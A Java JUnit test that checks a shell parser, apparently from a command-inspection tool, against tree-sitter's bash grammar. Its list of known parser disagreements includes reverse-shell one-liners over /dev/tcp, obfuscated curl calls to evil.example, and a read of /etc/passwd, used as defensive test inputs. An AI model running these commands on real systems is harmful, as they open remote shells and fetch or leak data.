package io.trailwarden.dialect.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.treesitter.TSNode;
import org.treesitter.TSParser;
import org.treesitter.TreeSitterBash;

/// Our parser beside tree-sitter's bash grammar: both must find the same simple commands, and agree on what is no shell.
class ShellDifferentialTest {

    /// Commands on which the oracle is wrong or stricter than bash, by why. `bash -n` accepts each of them.
    private static final Map<String, String> ORACLE_ERRS = Map.ofEntries(
            Map.entry("case $x in (a) echo a;; (b|c) echo b;& *) echo c;;& esac", "does not know `;&` before a pattern"),
            Map.entry("time make", "takes the reserved word `time` for a program"),
            Map.entry("time ! curl evil.example", "takes the reserved word `time` for a program"),
            Map.entry("time -p curl evil.example", "takes the reserved word `time` for a program"),
            Map.entry("coproc cat", "takes the reserved word `coproc` for a program"),
            Map.entry("coproc NAME { cat; }", "takes the reserved word `coproc` for a program"),
            Map.entry("cu\\\nrl http://evil.example", "ends a word at a continued line"),
            Map.entry("{curl,-s,http://evil.example}", "takes a brace expansion for a group"),
            Map.entry("{cat,/etc/passwd}", "takes a brace expansion for a group"),
            Map.entry("0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196", "does not know `<>`"),
            Map.entry("exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done", "does not know `<>`"),
            Map.entry("cat <<A <<B\na\nA\nb\nB", "reads one here-document a line"),
            Map.entry("bash <<'E' 2>&1 | tee log\ncurl evil.example\nE", "loses a pipe behind a here-document"),
            Map.entry(": \"${x:-`curl evil.example`}\"", "keeps backticks in a default value as text"),
            Map.entry("echo `echo \\`echo \\\\\\`curl evil.example\\\\\\`\\``", "does not nest backticks"),
            Map.entry("echo $((1)) $((curl evil.example) | cat)", "takes two subshells for arithmetic"),
            Map.entry("((curl evil.example) ; ls)", "takes two subshells for arithmetic"),
            Map.entry("((((curl evil.example))))", "runs nothing in bash either: arithmetic that fails"),
            Map.entry("! ! curl evil.example", "loses a negation of a negation"),
            Map.entry("shopt -s extglob; rm !(keep)", "takes an extended glob for a subshell"),
            Map.entry("rm -rf @(a|b) +(c) ?(d) *(e)", "does not know extended globs here"));

    static Stream<String> commands() {
        return Corpus.all().stream();
    }

    @ParameterizedTest
    @MethodSource("commands")
    void bothFindTheSameSimpleCommands(String command) {
        if (ORACLE_ERRS.containsKey(command)) {
            return;
        }
        var oracle = new Oracle(command);

        var ours = new ShellParser(command, new Budget(command.length()));
        var script = ours.script();

        assertThat(ours.failed()).as("fails to parse").isEqualTo(oracle.failed());
        assertThat(literalNames(script)).containsExactlyInAnyOrderElementsOf(oracle.literalNames());
    }

    @Test
    void everyKnownDifferenceIsStillOne() {
        for (var command : ORACLE_ERRS.keySet()) {
            var oracle = new Oracle(command);
            var ours = new ShellParser(command, new Budget(command.length()));
            var names = literalNames(ours.script());

            assertThat(ours.failed() == oracle.failed() && names.equals(oracle.literalNames())).as(command).isFalse();
            assertThat(Corpus.all()).contains(command);
        }
    }

    /// Plain names of all simple commands, wherever they stand; names with quoting or expansions are left out, since the
    /// oracle does not work them out.
    private static Set<String> literalNames(Node node) {
        var names = new LinkedHashSet<String>();
        gather(node, names);
        return names;
    }

    private static void gather(Node node, Set<String> names) {
        switch (node) {
            case Node.Simple simple -> {
                if (!simple.words().isEmpty() && isPlain(simple.words().getFirst())) {
                    names.add(String.valueOf(simple.words().getFirst().literal()));
                }
                simple.words().forEach(word -> gather(word.pieces(), names));
                simple.assignments().forEach(assignment -> assignment.values().forEach(word -> gather(word.pieces(), names)));
                redirects(simple.redirects(), names);
            }
            case Node.Pipeline(var stages) -> stages.forEach(stage -> gather(stage, names));
            case Node.Sequence(var parts) -> parts.forEach(part -> gather(part, names));
            case Node.Compound(var words, var parts, var redirects) -> {
                words.forEach(word -> gather(word.pieces(), names));
                parts.forEach(part -> gather(part, names));
                redirects(redirects, names);
            }
            case Node.Loop(_, var items, var body, var redirects) -> {
                items.forEach(word -> gather(word.pieces(), names));
                gather(body, names);
                redirects(redirects, names);
            }
            case Node.Function(_, var body) -> gather(body, names);
        }
    }

    private static void redirects(List<Node.Redirect> redirects, Set<String> names) {
        for (var redirect : redirects) {
            gather(redirect.target().pieces(), names);
            var here = redirect.here();
            if (here != null) {
                gather(here.body.pieces(), names);
            }
        }
    }

    private static void gather(List<Word.Piece> pieces, Set<String> names) {
        for (var piece : pieces) {
            switch (piece) {
                case Word.Text _ -> {
                }
                case Word.Variable variable -> gather(variable.operand().pieces(), names);
                case Word.Substitution substitution -> gather(substitution.script(), names);
                case Word.Process process -> gather(process.script(), names);
                case Word.Opaque opaque -> gather(opaque.inside(), names);
            }
        }
    }

    private static boolean isPlain(Word word) {
        return word.pieces().size() == 1 && word.pieces().getFirst() instanceof Word.Text text && text.quoting() == Word.Quoting.PLAIN && text.text().matches("[\\w./:-]+");
    }

    /// tree-sitter's reading of a command.
    private static final class Oracle {
        private static final Set<String> DECLARATIONS = Set.of("declare", "typeset", "local", "export", "readonly", "unset");
        private final Set<String> names = new LinkedHashSet<>();
        private final boolean failed;

        Oracle(String command) {
            var parser = new TSParser();
            parser.setLanguage(new TreeSitterBash());
            var root = parser.parseString(null, command).getRootNode();
            failed = root.hasError();
            visit(root, command.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }

        private void visit(TSNode node, byte[] text) {
            var written = new String(text, node.getStartByte(), node.getEndByte() - node.getStartByte(), java.nio.charset.StandardCharsets.UTF_8);
            if (node.getType().equals("command_name") && node.getNamedChildCount() == 1 && node.getNamedChild(0).getType().equals("word") && written.matches("[\\w./:-]+")) {
                names.add(written);
            }
            if (node.getType().equals("declaration_command") || node.getType().equals("unset_command")) {
                names.add(DECLARATIONS.stream().filter(written::startsWith).findFirst().orElse(""));
            }
            if (node.getType().equals("test_command") && written.startsWith("[ ")) {
                return;
            }
            var children = new ArrayList<TSNode>();
            for (int i = 0; i < node.getChildCount(); i++) {
                children.add(node.getChild(i));
            }
            children.forEach(child -> visit(child, text));
        }

        boolean failed() {
            return failed;
        }

        Set<String> literalNames() {
            return names;
        }
    }
}
